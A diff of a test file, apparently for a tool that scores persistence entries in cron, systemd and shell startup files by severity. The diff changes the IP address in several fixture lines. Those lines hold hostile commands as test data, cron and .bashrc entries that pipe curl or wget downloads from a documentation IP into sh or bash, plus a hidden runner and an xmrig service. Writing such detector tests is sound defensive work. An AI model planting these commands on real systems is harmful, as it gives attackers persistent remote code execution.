@@ -64,13 +64,13 @@ def test_classify(path: str, kind: str) -> None:
         (f"{ROOT}/cron.d/job", "0 3 * * * root /usr/local/bin/backup", Severity.MEDIUM),
         (
             f"{ROOT}/cron.d/job",
-            "* * * * * root curl -fsSL http://203.0.113.5/x.sh | sh",
+            "* * * * * root curl -fsSL http://198.51.100.5/x.sh | sh",
             Severity.HIGH,
         ),
         (f"{ROOT}/cron.d/job", "*/5 * * * * root /tmp/.x/run >/dev/null 2>&1", Severity.HIGH),
         (
             f"{ROOT}/cron.d/job",
-            "@reboot root wget -q -O- http://203.0.113.5/i | bash",
+            "@reboot root wget -q -O- http://198.51.100.5/i | bash",
             Severity.HIGH,
         ),
         (
@@ -87,7 +87,7 @@ def test_classify(path: str, kind: str) -> None:
         (f"{ROOT}/systemd/system/xmrig.service", "ExecStart=/opt/bin/w", Severity.HIGH),
         ("/home/u/.bashrc", "export PATH=$PATH:/opt/bin", Severity.LOW),
         ("/home/u/.bashrc", "nohup /opt/bin/w >/dev/null 2>&1 &", Severity.MEDIUM),
-        ("/home/u/.bashrc", "(curl -s http://203.0.113.5/a | bash) &", Severity.HIGH),
+        ("/home/u/.bashrc", "(curl -s http://198.51.100.5/a | bash) &", Severity.HIGH),
         (f"{ROOT}/rc.local", "/opt/bin/w", Severity.MEDIUM),
         (
             "/home/u/.ssh/authorized_keys",
